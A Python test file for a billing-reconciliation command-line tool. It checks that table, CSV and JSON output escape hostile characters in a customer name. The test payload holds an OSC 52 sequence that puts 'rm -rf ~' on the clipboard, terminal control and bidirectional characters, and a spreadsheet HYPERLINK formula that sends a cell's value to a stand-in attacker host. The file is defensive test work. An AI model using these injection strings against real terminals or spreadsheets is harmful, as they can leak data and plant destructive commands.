"""Output that cannot be turned against its reader (G8 item 9, the command-line part; G6 item 4).

A billing customer is renamed, through the demo's Stripe API, to a name that holds an OSC 52
clipboard write, a clear-screen sequence, BEL, NUL, a C1 CSI, a right-to-left override and a
spreadsheet formula. Then ``reconcile`` and ``timeline`` run as a user runs them (subprocesses):

- ``--format table`` never puts one of those characters on stdout: they are shown as visible
  escapes (``\\x1b``, ``\\u202e``); long texts are elided with "…" to the terminal's width
  (``COLUMNS``), and ``--wide`` prints them whole;
- ``--format csv`` cells are formula-neutralised (the name's cell starts with ``'=``) and hold no
  control character;
- ``--format json`` is exact JSON: ``json.loads`` gives back the name exactly, and the text itself
  holds no raw control character (``json.dumps`` escapes C0; :func:`app.headless.json_text`
  escapes the C1 and bidirectional controls that it leaves raw).
"""

from __future__ import annotations

import asyncio
import csv
import io
import json
import os
import subprocess
import sys
import time
import unicodedata
from collections.abc import Iterator
from pathlib import Path

import httpx
import pytest
from hypothesis import given
from hypothesis import strategies as st

from app.headless import _table, csv_text, display_width, elide, json_text
from services.core.domain import System
from services.core.text_safety import BIDI_CONTROLS
from services.demo.environment import DemoEnvironment, DemoOptions, wait_until_answering
from services.io.config import write_profile

ROOT = Path(__file__).resolve().parent.parent
RUN_TIMEOUT = 120.0
OSC52 = "\x1b]52;c;cm0gLXJmIH4K\x07"  # OSC 52: put "rm -rf ~" on the clipboard
HOSTILE = f'=HYPERLINK("http://evil.example/?"&A1,"click"){OSC52}\x1b[2J\x07\x00\x9b6n \u202eexe.txt Ltd'
#: the characters a terminal would act on; none may reach stdout raw
RAW = ("\x1b", "\x07", "\x00", "\x9b", "\u202e")
TAIL = " and a very long trading name" * 5  # 145 characters: elided unless --wide (Stripe caps a name at 256)
WIDTH = 100


def unsafe_characters(text: str) -> list[str]:
    """Every character of ``text`` a terminal could act on (line breaks excepted)."""
    return [ch for ch in text if ch != "\n" and (unicodedata.category(ch) == "Cc" or ch in BIDI_CONTROLS)]


# -- the helpers -----------------------------------------------------------------------------
@given(st.recursive(st.text() | st.integers() | st.none(),
                    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(st.text(max_size=8), inner, max_size=4),
                    max_leaves=12))
def test_json_output_is_exact_and_inert(value: object) -> None:
    text = json_text(value)
    assert json.loads(text) == value
    assert unsafe_characters(text) == []


def test_json_output_escapes_what_json_dumps_leaves_raw() -> None:
    assert "\x9b" in json.dumps("\x9b", ensure_ascii=False), "json.dumps leaves C1 raw (the reason for json_text)"
    assert "\u202e" in json.dumps("\u202e", ensure_ascii=False)
    text = json_text({"name": HOSTILE})
    assert json.loads(text) == {"name": HOSTILE}
    assert not any(ch in text for ch in RAW)
    assert "\\u009b" in text and "\\u202e" in text and "\\u001b" in text


def test_csv_cells_are_neutralised_and_inert() -> None:
    cell = csv_text(HOSTILE)
    assert cell.startswith("'=HYPERLINK(")
    assert unsafe_characters(cell) == []
    assert csv_text("-12 EUR") == "'-12 EUR" and csv_text(-12) == "-12" and csv_text("Acme") == "Acme"
    assert csv_text("two\nlines") == "two\nlines", "a quoted cell keeps its line break"


def test_tables_fit_the_width_and_wide_prints_whole() -> None:
    rows = [["invoice.missing_in_erp", "cus_1", HOSTILE + TAIL], ["customer.unmapped_erp", "cus_2", "short"],
            ["x", "東京の取引先株式会社" * 10, "ok"]]
    header = ["rule", "customer", "summary"]
    fitted = _table(rows, header, WIDTH)
    assert all(display_width(line) <= WIDTH for line in fitted.splitlines()), fitted
    assert "…" in fitted and unsafe_characters(fitted) == []
    assert fitted.splitlines()[0].split() == header, "headers are never cut"
    whole = _table(rows, header, None)
    assert TAIL.strip() in whole and "\\x1b]52;c;" in whole and "…" not in whole
    assert unsafe_characters(whole) == []
    narrow = _table(rows, header, 20)  # narrower than the headers: the headers stay whole
    assert narrow.splitlines()[0].split() == header


def test_elide_counts_terminal_columns() -> None:
    assert elide("abcdef", 6) == "abcdef" and elide("abcdefg", 6) == "abcde…"
    assert display_width("東京") == 4 and elide("東京都庁", 5) == "東京…"
    assert display_width("e\u0301") == 1


# -- the commands --------------------------------------------------------------------------------
@pytest.fixture(scope="module")
def renamed(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[Path, str, str]]:
    """The demo (as of now) with one customer that has no ERP party renamed to ``HOSTILE +
    TAIL``; (config file, customer id, the name billing now holds)."""
    env = DemoEnvironment(DemoOptions(customers=60, seed=1, anchor=int(time.time()))).start()
    try:
        asyncio.run(wait_until_answering(env.urls))
        cid = next(m.customer for m in env.dataset.manifest if m.rule == "customer.unmapped_erp" and m.customer)
        billing = env.profile().connections[System.BILLING]
        with httpx.Client(timeout=10) as client:
            r = client.post(f"{billing.url}/v1/customers/{cid}", data={"name": HOSTILE + TAIL},
                            auth=(billing.secret("api_key"), ""))
            assert r.status_code == 200, r.text
            name = r.json()["name"]
        assert all(ch in name for ch in RAW), "the demo keeps every hostile character"
        config = tmp_path_factory.mktemp("output-safety") / "config.toml"
        write_profile(config, env.profile("p"))
        yield config, cid, name
    finally:
        env.stop()


def run_cli(*args: str, columns: int = WIDTH) -> subprocess.CompletedProcess[str]:
    # SYNCDESK_HOME: the test's own (the autouse fixture); no terminal: COLUMNS is the width
    env = {**os.environ, "COLUMNS": str(columns)}
    result = subprocess.run([sys.executable, "main.py", *args], cwd=ROOT, capture_output=True, text=True,
                            timeout=RUN_TIMEOUT, env=env)
    assert result.returncode == 0, (args, result.stderr)
    assert unsafe_characters(result.stderr) == [], result.stderr
    return result


@pytest.mark.slow
def test_reconcile_output_is_inert_in_every_format(renamed: tuple[Path, str, str]) -> None:
    config, cid, name = renamed
    source = ["--config", str(config), "--profile", "p", "-q"]

    table = run_cli("reconcile", *source).stdout
    assert unsafe_characters(table) == []
    assert all(display_width(line) <= WIDTH for line in table.splitlines()), "fits the terminal"
    line = next(row for row in table.splitlines() if cid in row)
    assert line.rstrip().endswith("…"), line

    wide = run_cli("reconcile", *source, "--wide").stdout
    assert unsafe_characters(wide) == []
    line = next(row for row in wide.splitlines() if cid in row)
    assert "=HYPERLINK(" in line and "\\x1b]52;c;cm0gLXJmIH4K\\x07\\x1b[2J\\x07\\x00\\x9b6n \\u202eexe.txt" in line
    assert TAIL.strip() in line, "--wide prints the whole name"

    out = run_cli("reconcile", *source, "--format", "csv").stdout
    assert unsafe_characters(out) == []
    row = next(r for r in csv.DictReader(io.StringIO(out))
               if r["customer"] == cid and r["rule"] == "customer.unmapped_erp")
    assert row["summary"].startswith("'=HYPERLINK("), row["summary"]

    out = run_cli("reconcile", *source, "--format", "json").stdout
    assert unsafe_characters(out) == []
    found = next(r for r in json.loads(out) if r["customer"] == cid and r["rule"] == "customer.unmapped_erp")
    assert found["summary"] == f"{name}: no ERP party carries {cid}", "JSON round-trips exactly"


@pytest.mark.slow
def test_timeline_output_is_inert(renamed: tuple[Path, str, str]) -> None:
    config, cid, name = renamed
    source = ["--config", str(config), "--profile", "p", "-q"]
    table = run_cli("timeline", cid, *source).stdout
    assert unsafe_characters(table) == []
    assert all(display_width(line) <= WIDTH for line in table.splitlines()[2:]), "the table fits"
    title = table.splitlines()[0]
    assert title.startswith("=HYPERLINK(") and f"({cid})" in title and "…" in title
    wide = run_cli("timeline", cid, *source, "--wide").stdout
    assert unsafe_characters(wide) == [] and TAIL.strip() in wide.splitlines()[0]
    out = run_cli("timeline", cid, *source, "--format", "json").stdout
    assert unsafe_characters(out) == []
    assert json.loads(out)["name"] == name
